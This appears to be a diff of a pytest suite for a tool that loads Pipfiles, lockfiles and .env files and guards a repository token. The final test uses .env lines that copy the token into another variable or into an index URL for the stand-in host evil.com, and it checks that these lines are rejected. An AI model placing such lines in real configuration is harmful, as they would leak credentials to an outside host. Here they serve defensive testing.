@@ -57,6 +57,8 @@ def test_a_folder_without_pipfile_is_an_empty_project(tmp_path: Path) -> None:
     assert project.sources() == []
     assert project.assign_variables([]) == {}
     assert project.scripts == {}
+    write_pipfile(tmp_path, "")
+    assert (load(tmp_path).sources(), load(tmp_path).scripts) == ([], {})
 
 
 @pytest.mark.wide
@@ -97,23 +99,19 @@ def test_pipfile_is_found_where_pipenv_finds_it(clean_env: dict[str, str], proje
     assert [theirs for theirs, _ in pairs].count(str(elsewhere)) == 2
 
 
-@pytest.mark.parametrize("version", ["2023.12.1", "2023.11.15", "2024.0.0"])
-def test_pipenv_up_to_2024_0_0_searches_three_folders(tmp_path: Path, version: str) -> None:
+@pytest.mark.parametrize(
+    ("version", "most"), [("2023.12.1", 3), ("2024.0.0", 3), ("2024.0.3", 10), (None, 10)]
+)
+def test_the_search_depth_is_that_of_the_pipenv_version(
+    tmp_path: Path, version: str | None, most: int
+) -> None:
     path = write_pipfile(tmp_path, SOURCE)
-    found = load_project({}, str(nested(tmp_path, 2)), lambda: version)
-    assert found.pipfile == str(path)
-    assert load_project({}, str(nested(tmp_path, 3)), lambda: version).pipfile is None
-    # PIPENV_MAX_DEPTH is every version's.
-    far = load_project({"PIPENV_MAX_DEPTH": "5"}, str(nested(tmp_path, 4)), lambda: version)
-    assert far.pipfile == str(path)
 
+    def found(levels: int, **environ: str) -> str | None:
+        return load_project(environ, str(nested(tmp_path, levels)), lambda: version).pipfile
 
-@pytest.mark.parametrize("version", ["2024.0.3", "2024.4.1", "2026.10.3", None])
-def test_later_pipenv_versions_search_ten_folders(tmp_path: Path, version: str | None) -> None:
-    path = write_pipfile(tmp_path, SOURCE)
-    found = load_project({}, str(nested(tmp_path, 9)), lambda: version)
-    assert found.pipfile == str(path)
-    assert load_project({}, str(nested(tmp_path, 10)), lambda: version).pipfile is None
+    assert [found(most - 1), found(most)] == [str(path), None]
+    assert found(4, PIPENV_MAX_DEPTH="5") == str(path)
 
 
 def test_pipenv_version_is_only_looked_up_if_needed(tmp_path: Path) -> None:
@@ -175,14 +173,7 @@ def test_the_lock_is_named_after_the_pipfile(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "content",
-    [
-        b"",
-        b"{",
-        b'{"_meta": []}',
-        b'{"_meta": {"sources": {}}}',
-        b'{"_meta": {"sources": null}}',
-        b"<<<<<<< HEAD\n{}",
-    ],
+    [b"", b"{", b'{"_meta": []}', b'{"_meta": {"sources": {}}}', b"<<<<<<< HEAD\n{}"],
 )
 def test_a_lock_that_pipenv_replaces_is_ignored(tmp_path: Path, content: bytes) -> None:
     write_pipfile(tmp_path, SOURCE)
@@ -216,6 +207,7 @@ def test_a_lock_that_crashes_pipenv_is_an_error_with_a_reason(tmp_path: Path, re
         ('[packages]\nsix = "*"\nsix = "*"\n', "line 3"),
         ("[packages]\nsix = *\n", "line 2"),
         ("<<<<<<< HEAD\n", "line 1"),
+        (f"x = {'[' * 20_000}{']' * 20_000}\n", ""),
     ],
 )
 def test_invalid_toml_is_an_error_with_file_and_line(tmp_path: Path, text: str, where: str) -> None:
@@ -225,15 +217,12 @@ def test_invalid_toml_is_an_error_with_file_and_line(tmp_path: Path, text: str, 
     assert where in sentence
 
 
-def test_a_pipfile_in_another_encoding_is_an_error_with_its_line(tmp_path: Path) -> None:
+def test_other_encodings_are_errors_with_the_place(tmp_path: Path) -> None:
     path = tmp_path / "Pipfile"
     path.write_bytes(b"[packages]\n# caf\xc3\xa9\n# caf\xe9\n")
     assert refusal(tmp_path) == f"{path}, line 3: the Pipfile is not UTF-8."
-
-
-def test_a_deeply_nested_pipfile_is_an_error(tmp_path: Path) -> None:
-    path = write_pipfile(tmp_path, f"x = {'[' * 20_000}{']' * 20_000}\n")
-    assert str(path) in refusal(tmp_path)
+    (tmp_path / ".env").write_bytes(b"A=caf\xe9\n")
+    assert refusal(tmp_path).startswith(f"{tmp_path / '.env'} cannot be read")
 
 
 @pytest.mark.skipif(
@@ -251,12 +240,6 @@ def test_an_unreadable_pipfile_is_an_error_with_the_reason() -> None:
         finally:
             os.seteuid(0)
     assert sentence == f"{path} cannot be read: Permission denied."
-
-
-def test_an_empty_pipfile_has_no_sources_and_no_scripts(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, "")
-    project = load(tmp_path)
-    assert (project.sources(), project.scripts) == ([], {})
 
 
 @pytest.mark.parametrize(
@@ -288,23 +271,11 @@ def test_dotenv_overrides_the_environment(tmp_path: Path) -> None:
     assert source.endpoint.repository == "own"
 
 
-def test_dotenv_of_the_current_folder_is_loaded_without_pipfile(tmp_path: Path) -> None:
+@pytest.mark.parametrize("word", ["1", "true", "yes", "anything", "0", "false", "No", "off", ""])
+def test_pipenv_dont_load_env_disables_dotenv_if_true(tmp_path: Path, word: str) -> None:
     (tmp_path / ".env").write_text("A=1\n")
-    assert load(tmp_path).environ == {"A": "1"}
-
-
-@pytest.mark.parametrize("word", ["1", "true", "yes", "anything"])
-def test_pipenv_dont_load_env_disables_dotenv(tmp_path: Path, word: str) -> None:
-    (tmp_path / ".env").write_text("A=1\n")
-    project = load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word})
-    assert project.dotenv is None
-    assert "A" not in project.environ
-
-
-@pytest.mark.parametrize("word", ["0", "false", "No", "off", ""])
-def test_a_false_pipenv_dont_load_env_keeps_dotenv(tmp_path: Path, word: str) -> None:
-    (tmp_path / ".env").write_text("A=1\n")
-    assert load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ["A"] == "1"
+    is_loaded = word in {"0", "false", "No", "off", ""}
+    assert ("A" in load(tmp_path, {"PIPENV_DONT_LOAD_ENV": word}).environ) is is_loaded
 
 
 def test_pipenv_dotenv_location_names_another_file(tmp_path: Path) -> None:
@@ -322,12 +293,6 @@ def test_dotenv_may_set_pipenv_pipfile(tmp_path: Path) -> None:
     path = write_pipfile(below, SOURCE)
     (tmp_path / ".env").write_text(f"PIPENV_PIPFILE={path}\n")
     assert load(tmp_path).pipfile == str(path)
-
-
-def test_a_dotenv_in_another_encoding_is_an_error(tmp_path: Path) -> None:
-    path = tmp_path / ".env"
-    path.write_bytes(b"A=caf\xe9\n")
-    assert refusal(tmp_path).startswith(f"{path} cannot be read")
 
 
 @pytest.mark.parametrize(
@@ -353,9 +318,10 @@ def test_token_variable_in_a_package_entry_is_an_error(
     assert f"{category}.orb" in caught.value.sentence
 
 
-def test_token_variable_may_be_the_password_of_a_package_url(tmp_path: Path) -> None:
+def test_token_variable_may_be_in_scripts_and_the_password_of_a_package_url(tmp_path: Path) -> None:
     url = URL.replace("simple/", "simple/orb/1.0/orb-1.0-py3-none-any.whl")
-    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n')
+    script = f'[scripts]\nx = "echo ${TOKEN}"\n'
+    write_pipfile(tmp_path, SOURCE, f'[packages]\norb = {{file = "{url}"}}\n', script)
     project = load(tmp_path)
     assert set(project.assign_variables(project.sources())) == {TOKEN}
 
@@ -391,25 +357,19 @@ def test_pylock_name_must_not_be_a_path(name: str, tmp_path: Path) -> None:
     assert load(tmp_path).pylock == str(tmp_path / "pylock.py3.12 dev.toml")
 
 
-def test_scripts_may_use_the_token_variable(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, SOURCE, f'[scripts]\nx = "echo ${TOKEN}"\n')
-    project = load(tmp_path)
-    assert set(project.assign_variables(project.sources())) == {TOKEN}
-
-
-@pytest.mark.parametrize("value", [f"${{{TOKEN}}}", f"x${{{TOKEN}}}", f"${{{TOKEN}:-none}}"])
-def test_dotenv_must_not_copy_the_token_to_another_name(tmp_path: Path, value: str) -> None:
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"LEAK=${{{TOKEN}}}",
+        f"LEAK=x${{{TOKEN}}}",
+        f"LEAK=${{{TOKEN}:-none}}",
+        f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/",
+    ],
+)
+def test_dotenv_must_not_copy_the_token(tmp_path: Path, line: str) -> None:
     foreign = PYPI_SOURCE.replace("https://pypi.org", "https://aws:${LEAK}@evil.com")
     write_pipfile(tmp_path, SOURCE, foreign)
-    (tmp_path / ".env").write_text(f"LEAK={value}\n")
-    project = load(tmp_path)
-    with pytest.raises(ConfigurationError, match="token"):
-        project.assign_variables(project.sources())
-
-
-def test_dotenv_must_not_put_the_token_into_a_foreign_url(tmp_path: Path) -> None:
-    write_pipfile(tmp_path, SOURCE)
-    (tmp_path / ".env").write_text(f"PIP_EXTRA_INDEX_URL=https://aws:${{{TOKEN}}}@evil.com/\n")
+    (tmp_path / ".env").write_text(f"{line}\n")
     project = load(tmp_path)
     with pytest.raises(ConfigurationError, match="token"):
         project.assign_variables(project.sources())
